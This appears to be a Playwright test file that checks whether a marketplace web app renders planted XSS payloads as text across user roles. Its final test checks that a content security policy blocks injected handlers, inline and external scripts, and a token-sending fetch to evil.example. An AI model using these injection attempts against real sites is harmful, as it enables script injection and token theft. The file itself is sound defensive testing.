import { join } from 'node:path';
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { allPagePaths, matchPagePath } from '@homechef/contract/page-rendering/page-paths';
import {
  getAdminScreens,
  getChefScreens,
  getFoodieScreens,
  getVisitorScreens,
  waitUntilLoaded,
  type ScreenVisit,
} from './support/screens.ts';
import { createXssMarket, recordXssSignals, xssPayloads } from './support/xss-fixtures.ts';
import { restoreSession, loginDemoAdmin } from './support/fixtures.ts';
import { desk, expect, full, test } from './support/test.ts';

// Runs on a desktop only, because text is handled the same way at any width.
test.describe.configure({ mode: 'parallel' });

/** Elements and attributes that the app never renders. React attaches event handlers without attributes. */
const foreignElements =
  '#planted, [onload], [onerror], [src*=planted], iframe, base, [href^="javascript:" i], style, svg:not(:has(*))';

/** Matches inline scripts, styles and event handlers in a document whose quoted texts were removed. */
const inlineCode = /<script(?![^>]*\ssrc=)|<style|<[a-z][^>]*\s(?:style|on[a-z]+)=/i;

async function openPage(page: Page, path: string) {
  const reply = await page.goto(path);
  const html = (await reply?.text()) ?? '';
  expect(html.replace(/"[^"]*"/g, '""'), path).not.toMatch(inlineCode);
  await waitUntilLoaded(page);
}

/** Returns the text of the page, its inputs and its title. */
const getPageText = (page: Page) =>
  page.evaluate(() => {
    const inputValues = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
      ({ value }) => value,
    );
    return [document.title, document.body.textContent, ...inputValues].join('\n');
  });

/** Enters a script into every text field of the page and submits the last form. */
async function submitXssText(page: Page) {
  const textFields = page
    .getByRole('main')
    .locator('input:not([type=checkbox], [type=radio], [type=file], [type=number], [readonly]), textarea');
  const fields = (await textFields.all()).reverse();
  for (const field of fields) if (await field.isVisible()) await field.fill(xssPayloads.all('by-hand'));
  const form = page.getByRole('main').locator('form').last();
  const submitButton = form.locator('button[type=submit]:enabled');
  if (fields.length > 0 && (await submitButton.count()) === 1 && (await submitButton.isVisible()))
    await submitButton.click();
  await waitUntilLoaded(page);
}

/** Opens all screens and returns their text. Expects that no planted script runs or turns into an element. */
async function visitScreens(page: Page, visits: readonly ScreenVisit[]): Promise<string> {
  test.setTimeout(180_000);
  const signals = await recordXssSignals(page);
  const texts: string[] = [];
  for (const { name, path, act } of visits) {
    await test.step(name, async () => {
      await openPage(page, path);
      await act?.(page);
      texts.push(await getPageText(page));
      await expect(page.locator(foreignElements), name).toHaveCount(0);
      await submitXssText(page);
      await expect(page.locator(foreignElements), `${name}, by hand`).toHaveCount(0);
    });
  }
  expect(signals).toEqual([]);
  return texts.join('\n');
}

function expectShown(shownText: string, texts: object) {
  const missing = Object.entries(texts).filter(([, text]) => !shownText.includes(String(text)));
  expect(missing).toEqual([]);
}

const hostileValue = encodeURIComponent(xssPayloads.all('address'));
/** For a path segment. Contains no dot, because the server treats a path with a dot as a file. */
const hostileSegment = encodeURIComponent(xssPayloads.line('address'));

test('planted scripts are shown to a visitor as text', full(desk), async ({ page }) => {
  const { texts, chef, tacos, guestOrder } = await createXssMarket();
  const visits = getVisitorScreens({ chef, tacos, order: guestOrder });
  const shownText = await visitScreens(page, [
    ...visits,
    { name: 'market-searched', path: `/mainpage?name=${encodeURIComponent(texts.search)}` },
    {
      name: 'market-hostile',
      path: `/mainpage?category=${hostileValue}&minPrice=${hostileValue}&sort=${hostileValue}&page=${hostileValue}`,
    },
    { name: 'product-hostile', path: `/mainpage/product/${hostileSegment}` },
    { name: 'chef-hostile', path: `/chefitems/${hostileSegment}` },
    { name: 'cart-hostile', path: `/cart/${hostileSegment}?qty=${hostileValue}` },
    { name: 'order-hostile', path: `/order/guest/${hostileSegment}` },
    { name: 'login-hostile', path: `/login?redirect=${hostileValue}` },
    { name: 'not-found-hostile', path: `/no/${hostileSegment}?${hostileValue}#${hostileValue}` },
  ]);
  const { permit: _permit, shippingAddress, ...rest } = texts;
  expectShown(shownText, { ...rest, ...shippingAddress });
});

test('planted scripts are shown to a foodie as text', full(desk), async ({ page }) => {
  const { texts, foodie, tacos, cake, order } = await createXssMarket();
  await restoreSession(page, foodie);
  await page.evaluate(
    (address) => localStorage.setItem('shippingAddress', JSON.stringify(address)),
    texts.shippingAddress,
  );
  const shownText = await visitScreens(page, [
    ...getFoodieScreens({ cake, order }),
    { name: 'product-reviewed', path: `/mainpage/product/${tacos._id}` },
    { name: 'cheflist-hostile', path: `/cheflist?zip=${hostileValue}` },
    { name: 'profile-hostile', path: `/profile?q=${hostileValue}&page=${hostileValue}` },
  ]);
  const { foodieName, productName, description, comment, chefName, street, shippingAddress } = texts;
  expectShown(shownText, {
    foodieName,
    productName,
    description,
    comment,
    chefName,
    street,
    ...shippingAddress,
  });
});

test('planted scripts are shown to a chef as text', full(desk), async ({ page }) => {
  const { texts, chef, tacos, order } = await createXssMarket();
  await restoreSession(page, chef);
  const shownText = await visitScreens(page, [
    { name: 'chef-product-picture', path: `/chef/product/${tacos._id}/edit`, act: choosePicture },
    ...getChefScreens({ chef, tacos, order }),
    { name: 'chef-orders-hostile', path: `/cheforders?q=${hostileValue}&sort=${hostileValue}` },
    { name: 'chef-products-hostile', path: `/chef/productlist?q=${hostileValue}` },
  ]);
  const { chefName, permit, street, city, productName, description, foodieName, guestName } = texts;
  expectShown(shownText, { chefName, permit, street, city, productName, description, foodieName, guestName });
});

test('planted scripts are shown to an admin as text', full(desk), async ({ page }) => {
  const { texts, chef, foodie, tacos, order } = await createXssMarket();
  await restoreSession(page, await loginDemoAdmin());
  const buildSearchPath = (list: string, text: string) => `/admin/${list}?q=${encodeURIComponent(text)}`;
  const shownText = await visitScreens(page, [
    { name: 'admin-user-searched', path: buildSearchPath('userlist', texts.foodieName) },
    { name: 'admin-product-searched', path: buildSearchPath('productlist', texts.productName) },
    { name: 'admin-order-searched', path: buildSearchPath('orderlist', texts.guestName) },
    { name: 'admin-order', path: `/order/${order._id}` },
    { name: 'admin-foodie-edit', path: `/admin/user/${foodie._id}/edit` },
    ...getAdminScreens({ chef, tacos }),
    { name: 'admin-users-hostile', path: `/admin/userlist?q=${hostileValue}&page=${hostileValue}` },
  ]);
  const { chefName, foodieName, permit, productName, description, guestName } = texts;
  expectShown(shownText, { chefName, foodieName, permit, productName, description, guestName });
});

/** Selects a picture whose file name is a script. */
async function choosePicture(page: Page) {
  const buffer = await readFile(join(import.meta.dirname, 'files', 'elote.jpg'));
  const uploadResponse = page.waitForResponse('**/api/upload');
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: `${xssPayloads.tiny()}.jpg`, mimeType: 'image/jpeg', buffer });
  await page.getByRole('button', { name: 'Use this picture' }).click();
  expect(await (await uploadResponse).text()).toMatch(/^\/uploads\/[0-9a-f]+_[0-9a-f]+\.webp$/);
}

test('the visited screens include every page of the contract', desk, () => {
  const id = 'a'.repeat(24);
  const [chef, tacos, cake, order] = [{ _id: id }, { _id: id }, { _id: id }, { _id: id }] as never[];
  const data = { chef, tacos, cake, order } as never;
  const paths = [getVisitorScreens, getFoodieScreens, getChefScreens, getAdminScreens]
    .flatMap((listScreens) => listScreens(data))
    .map(({ path }) => path.split(/[?#]/)[0] ?? '');
  expect(allPagePaths.filter((pattern) => !paths.some((path) => matchPagePath(pattern, path)))).toEqual([]);
});

test('the content security policy blocks scripts that bypass React', desk, async ({ page }) => {
  const signals = await recordXssSignals(page);
  await page.goto('/mainpage');
  const attemptCount = await page.evaluate(async (payload) => {
    const attempts = {
      markup: () => document.body.insertAdjacentHTML('beforeend', payload),
      handler: () => {
        const picture = document.createElement('img');
        picture.setAttribute('onerror', 'planted()');
        picture.src = 'data:image/png,x';
        document.body.append(picture);
      },
      script: () => {
        const script = document.createElement('script');
        script.textContent = 'planted()';
        document.body.append(script);
      },
      externalScript: () => {
        const script = document.createElement('script');
        script.src = 'http://evil.example/x.js';
        document.body.append(script);
      },
      style: () => {
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        document.body.append(style);
      },
      navigation: () => window.location.assign('javascript:planted()'),
      request: () => void fetch('http://evil.example/?token').catch(() => undefined),
    };
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // Some attempts throw immediately; others fail later and are reported as violations.
      }
    }
    await new Promise((resolve) => requestAnimationFrame(resolve));
    return Object.keys(attempts).length;
  }, xssPayloads.all('past'));
  await expect.poll(() => signals.length).toBeGreaterThanOrEqual(attemptCount);
  expect(signals.filter((signal) => /ran|dialog|requested/.test(signal))).toEqual([]);
  await expect(page.getByRole('main')).toBeVisible();
});
